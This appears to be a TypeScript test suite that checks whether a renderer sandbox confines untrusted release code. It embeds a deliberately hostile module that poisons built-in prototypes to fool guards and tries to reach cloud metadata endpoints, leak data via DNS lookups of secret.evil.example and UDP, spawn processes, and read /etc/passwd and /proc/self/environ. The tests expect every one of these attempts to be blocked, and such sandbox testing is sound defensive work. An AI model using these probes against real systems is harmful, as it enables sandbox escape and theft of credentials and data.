import { createHash } from 'node:crypto'
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { mkdtempSync, realpathSync, rmSync } from 'node:fs'
import { createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { text } from 'node:stream/consumers'
import { parseDiscovery } from '@superium/shared/contract'
import { closeAfterEach, closeLater } from '../testing/close-after-each'
import { deployment, makeReleaseStore } from '../testing/make-release-store'
import { startUpstream } from '../testing/start-upstream'
import { createRendererPool } from './renderer-pool'

closeAfterEach()

/**
 * A malicious team's host. `/<deed>?<where>` tries that action and answers with its outcome. First it replaces methods
 * that a guard in the same process might use.
 */
const HOST = `
const { Readable } = require('node:stream')
const leaked = []
const { apply } = Reflect
for (const [owner, name] of [
  [Set.prototype, 'has'], [Map.prototype, 'has'], [Map.prototype, 'get'], [Array.prototype, 'includes'],
]) {
  const original = owner[name]
  owner[name] = function (...args) {
    const isAddress = typeof args[0] === 'string' && (args[0].startsWith('127.') || args[0].startsWith('169.'))
    return isAddress || apply(original, this, args)
  }
}
const { call } = Function.prototype
Function.prototype.call = function (...args) { leaked.push(this); return apply(call, this, args) }
Function.prototype.apply = function (self, args) { leaked.push(this); return apply(this, self, args) }
Reflect.apply = (method, self, args) => { leaked.push(method); return apply(method, self, args) }

const over = (start) => new Promise((resolve, reject) => {
  const made = start(() => resolve('REACHED'))
  made.on?.('error', reject)
})
const http = require('node:http')
const deeds = {
  api: (where) => over((done) => http.get(where, done)),
  'api by fetch': (where) => fetch(where).then(() => 'REACHED'),
  fetch: (where) => fetch(where).then(() => 'REACHED'),
  http: (where) => over((done) => http.get(where, done)),
  import: async (where) => { const { get } = await import('node:http'); return over((done) => get(where, done)) },
  builtin: (where) => { const { get } = process.getBuiltinModule('http'); return over((done) => get(where, done)) },
  https: (where) => over((done) => require('node:https').get(where.replace('http:', 'https:'), done)),
  http2: (where) => over((done) => require('node:http2').connect(where, done)),
  'own lookup': (where) => over((done) => http.get({
    host: 'api.example', port: new URL(where).port, lookup: (_, __, then) => setImmediate(then, null, [{ address: '127.0.0.1', family: 4 }]),
  }, done)),
  net: (where) => over((done) => require('node:net').connect(new URL(where).port, '127.0.0.1', done)),
  tls: (where) => over((done) => require('node:tls').connect(new URL(where).port, '127.0.0.1', done)),
  handle: (where) => {
    const socket = new (require('node:net').Socket)()
    socket.on('error', () => {})
    socket.connect(1, '127.0.0.1')
    const { constructor } = socket._handle
    delete constructor.prototype.connect
    constructor.prototype.connect = () => 0
    const native = new constructor(0)
    const code = native.connect({ oncomplete() {} }, '127.0.0.1', Number(new URL(where).port))
    return code === 0 ? 'REACHED' : 'refused with ' + code
  },
  metadata: () => fetch('http://169.254.169.254/latest/meta-data/').then(() => 'REACHED'),
  name: () => fetch('http://metadata.google.internal/').then(() => 'REACHED'),
  lookup: () => require('node:dns/promises').lookup('secret.evil.example').then(() => 'REACHED'),
  resolve: () => require('node:dns').promises.resolveTxt('secret.evil.example').then(() => 'REACHED'),
  resolver: () => {
    const resolver = new (require('node:dns').Resolver)()
    resolver.setServers(['127.0.0.1'])
    return over((done) => { resolver.resolve4('secret.evil.example', (error) => done(error)); return {} })
      .then(() => { throw new Error('answered') })
  },
  'unix socket': (where) => over((done) => require('node:net').connect(where, done)),
  udp: (where) => new Promise((resolve, reject) => {
    const socket = require('node:dgram').createSocket('udp4')
    socket.on('error', reject)
    socket.send('secret', Number(where), '127.0.0.1', (error) => error ? reject(error) : resolve('REACHED'))
  }),
  listen: () => over((done) => require('node:net').createServer().listen(0, '127.0.0.1', done)),
  descriptor: () => new Promise((resolve) => resolve(new (require('node:net').Socket)({ fd: 3 }) && 'REACHED')),
  websocket: (where) => new Promise((resolve, reject) => {
    if (!globalThis.WebSocket) return reject(new Error('there is no WebSocket'))
    const socket = new WebSocket(where.replace('http:', 'ws:'))
    socket.onopen = () => resolve('REACHED')
    socket.onerror = () => reject(new Error('no connection'))
  }),
  binding: () => process.binding('tcp_wrap') && 'REACHED',
  spawn: () => require('node:child_process').spawnSync('/bin/true').pid + ' REACHED',
  worker: () => new (require('node:worker_threads').Worker)('', { eval: true }) && 'REACHED',
  inspector: () => require('node:inspector').open(0) && 'REACHED',
  session: () => { new (require('node:inspector').Session)().connect(); return 'REACHED' },
  read: (where) => require('node:fs').readFileSync(where, 'utf8') && 'REACHED',
  write: (where) => { require('node:fs').writeFileSync(where, ''); return 'REACHED' },
  leaked: () => {
    const native = leaked.filter((one) => Function.prototype.toString.apply(one).includes('[native code]')).map(({ name }) => name)
    return native.some((name) => ['connect', 'connect6', 'bind', 'send', 'queryA', 'lookup'].includes(name)) ? 'REACHED' : 'none'
  },
}
exports.createServerHost = () => async ({ url }) => {
  const { pathname, search } = new URL(url)
  let outcome
  try {
    outcome = await deeds[decodeURIComponent(pathname.slice(1))](decodeURIComponent(search.slice(1)))
  } catch (error) {
    outcome = [error.code, error.message, error.cause?.message].filter(Boolean).join(' ')
  }
  return { status: 200, whole: true, html: Readable.from([String(outcome)]) }
}
`

interface Opened {
  /** Tries an action in the renderer's process. */
  attempt(deed: string, where?: string): Promise<string>
  log: string[]
}

/** Starts the real renderer with this API. */
async function open(apiUrl: string): Promise<Opened> {
  const releasesDir = makeReleaseStore({ 'shell/1.0.0/server/main.cjs': HOST })
  const shell = deployment('shell', { kind: 'host' })
  const hash = `sha384-${createHash('sha384').update(HOST).digest('base64')}`
  const superium = { ...shell.extras.superium, server: { 'main.cjs': hash } }
  const discovery = parseDiscovery({ schema: 's', microFrontends: { shell: [{ ...shell, extras: { superium } }] } })
  const log: string[] = []
  const renderers = createRendererPool(
    // Tests on a busy machine must not count as an overloaded server.
    { releasesDir, apiUrl, enabled: true, waitMs: 60_000, hangMs: 60_000, isOverloaded: () => false },
    (line) => log.push(line),
  )
  closeLater({ close: async () => renderers.stop() })
  await renderers.warm(discovery)
  return {
    log,
    async attempt(deed, where = '') {
      const url = `http://site.test/${encodeURIComponent(deed)}?${encodeURIComponent(where)}`
      const rendered = await renderers.render(discovery, { url, nonce: 'n' })
      return rendered ? text(Readable.from(rendered.html)) : `not rendered: ${log.join('; ')}`
    },
  }
}

/**
 * The addresses of an API, of another server on this machine, of its Unix and UDP sockets, and how often each was
 * reached.
 */
async function machine() {
  const reached: string[] = []
  const api = await startUpstream((_, response) => response.end('{}'))
  const other = await startUpstream((_, response) => {
    reached.push('http')
    response.end()
  })
  const folder = realpathSync(mkdtempSync(join(tmpdir(), 'superium-reach-')))
  const path = join(folder, 'database.sock')
  const unix = createServer(() => reached.push('unix')).listen(path)
  await once(unix, 'listening')
  const udp = createSocket('udp4', () => reached.push('udp')).bind(0, '127.0.0.1')
  await once(udp, 'listening')
  closeLater({
    close: async () => {
      unix.close()
      udp.close()
      rmSync(folder, { recursive: true, force: true })
    },
  })
  return { api, other, path, udp: String(udp.address().port), reached }
}

test("code of a release reaches the product API, and no other port of this machine, the cloud's metadata or names", async () => {
  const { api, other, path, udp, reached } = await machine()
  const { attempt, log } = await open(api)
  expect(await attempt('api', api)).toBe('REACHED')
  expect(await attempt('api by fetch', api)).toBe('REACHED')
  const { port } = new URL(other)
  for (const deed of ['http', 'import', 'net', 'tls', 'http2', 'https'])
    expect([deed, await attempt(deed, other)]).toEqual([
      deed,
      expect.stringContaining(`connect EACCES 127.0.0.1:${port}`),
    ])
  expect(await attempt('fetch', other)).toContain(`connect EACCES 127.0.0.1:${port}`)
  expect(await attempt('fetch', other.replace('127.0.0.1', '[::1]'))).toContain('connect EACCES ::1')
  expect(await attempt('metadata')).toContain('connect EACCES 169.254.169.254:80')
  for (const deed of ['name', 'lookup']) expect(await attempt(deed)).toContain('a release reaches only the product API')
  const others = [
    ['own lookup', other],
    ['builtin', other],
    ['handle', other],
    ['websocket', other],
    ['resolve', ''],
    ['resolver', ''],
    ['unix socket', path],
    ['udp', udp],
    ['listen', ''],
    ['descriptor', ''],
    ['binding', ''],
    ['leaked', ''],
  ] as const
  for (const [deed, where] of others) {
    const outcome = await attempt(deed, where)
    expect([deed, outcome]).toEqual([deed, expect.not.stringMatching(/REACHED|not rendered/)])
  }
  expect(reached).toEqual([])
  expect(log.join('\n')).toContain('169.254.169.254:80')
  // After all attempts, it can still use the API.
  expect(await attempt('api', api)).toBe('REACHED')
})

test('code of a release starts nothing, and reads and writes nothing outside of its folder', async () => {
  const { api, path } = await machine()
  const { attempt } = await open(api)
  for (const [deed, where] of [
    ['spawn', ''],
    ['worker', ''],
    ['inspector', ''],
    ['session', ''],
    ['read', '/etc/passwd'],
    ['read', '/proc/self/environ'],
    ['read', __filename],
    ['write', `${path}.txt`],
  ] as const) {
    expect([deed, await attempt(deed, where)]).toEqual([deed, expect.stringMatching(/^ERR_ACCESS_DENIED /)])
  }
})

test('an API with a name is looked up, and reached under each of its addresses', async () => {
  const { api, other, reached } = await machine()
  const named = api.replace('127.0.0.1', 'localhost')
  const { attempt } = await open(named)
  expect(await attempt('api', named)).toBe('REACHED')
  expect(await attempt('http', other.replace('127.0.0.1', 'localhost'))).toContain('EACCES')
  expect(reached).toEqual([])
})
